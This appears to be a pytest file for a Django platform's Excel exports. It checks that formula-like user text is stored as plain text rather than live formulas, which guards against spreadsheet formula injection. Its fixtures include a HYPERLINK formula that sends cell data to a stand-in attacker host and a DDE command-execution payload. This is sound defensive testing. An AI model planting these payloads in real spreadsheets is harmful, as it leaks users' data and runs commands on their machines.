"""Every .xlsx the platform writes keeps user text as text (OWASP CSV/formula injection): an activity, a list
item, a task, a unit and a report titled with a live formula come out as plain string cells in every file,
figures stay numbers, 序号 is a number, and command-line files link to records by absolute address."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
from django.core.management import call_command
from django.urls import reverse

from pufa.reports import services
from tests.factories import UnitFactory, duty_list, make_activity, make_plan, make_task

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def _workbook(response) -> openpyxl.Workbook:
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return openpyxl.load_workbook(io.BytesIO(content))


def _cells_with(workbook: openpyxl.Workbook, text: str) -> list:
    return [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if text in str(c.value or "")]


def _assert_text_only(workbook: openpyxl.Workbook) -> None:
    found = _cells_with(workbook, "evil.example")
    assert found, "the hostile text should be in the file"
    for cell in found:
        assert cell.data_type == "s" and cell.value.startswith(("=", "+", "-", "@")), cell.coordinate
        assert "HYPERLINK" in cell.value and "点击" in cell.value  # shown as typed
    assert not [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_every_export_writes_formula_like_text_as_text(client_for, world, office_user, liaison, ledger):
    make_activity(world.committee_a, title=EVIL, description="+cmd|' /C calc'!A0", date=dt.date(2026, 3, 2))
    make_activity(world.committee_a, title="-2+3", place="@SUM(1+1)", date=dt.date(2026, 3, 3))
    ledger_book = _workbook(client_for(office_user).get(reverse("ledger:activity-export")))
    _assert_text_only(ledger_book)
    rows = list(ledger_book["工作台账"].iter_rows(min_row=2))
    titles = {r[2].value: r for r in rows}
    assert titles["-2+3"][2].data_type == "s" and titles["-2+3"][6].value == "@SUM(1+1)"
    assert isinstance(rows[0][0].value, int) and isinstance(titles[EVIL][11].value, int)  # 序号, 现场受众

    duty_list(world.committee_a, status="published", content=EVIL)
    _assert_text_only(_workbook(client_for(liaison).get(reverse("duties:list-export", args=[_list_id(world), "xlsx"]))))
    region_book = _workbook(client_for(office_user).get(reverse("duties:region-export", args=["xlsx"]), {"year": 2026}))
    _assert_text_only(region_book)
    assert region_book["责任清单"]["A4"].value == 1  # 序号 as a number

    UnitFactory(name=EVIL, region=world.street_a)
    progress_book = _workbook(
        client_for(office_user).get(reverse("progress:dashboard-export"), {"region": world.street_a.pk})
    )
    _assert_text_only(progress_book)

    make_task(make_plan(world.office_unit, title="第二份要点"), title=EVIL, units={"responsible": [world.committee_a]})
    report = services.report_start(actor=liaison, unit=world.committee_a, period="h1", year=2026)
    report = services.report_update(
        actor=liaison, report=report, title=EVIL, intro="", practices="", problems="", plans=""
    )
    report_book = _workbook(client_for(liaison).get(reverse("reports:report-download", args=[report.pk, "xlsx"])))
    _assert_text_only(report_book)
    assert report_book["说明"]["A1"].value == EVIL
    assert report_book["任务完成情况"]["A3"].value == 1


def _list_id(world) -> int:
    from pufa.duties.models import DutyList

    return DutyList.objects.get(unit=world.committee_a, year=2026).pk


def test_command_line_workbook_links_are_absolute(world, ledger, tmp_path, settings):
    settings.PUFA_BASE_URL = "https://pufa.example.gov.cn"
    out = tmp_path / "a.xlsx"
    call_command("report_generate", "--unit", "tuohe-tuohe", "--period", "2026", "--format", "xlsx", "-o", str(out))
    workbook = openpyxl.load_workbook(out)
    links = [c.hyperlink.target for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.hyperlink]
    assert links and all(link.startswith("https://pufa.example.gov.cn/") for link in links)
    numbers = [r[0] for r in workbook["任务完成情况"].iter_rows(min_row=3, values_only=True) if r[0] is not None]
    assert numbers and all(isinstance(n, int) for n in numbers)
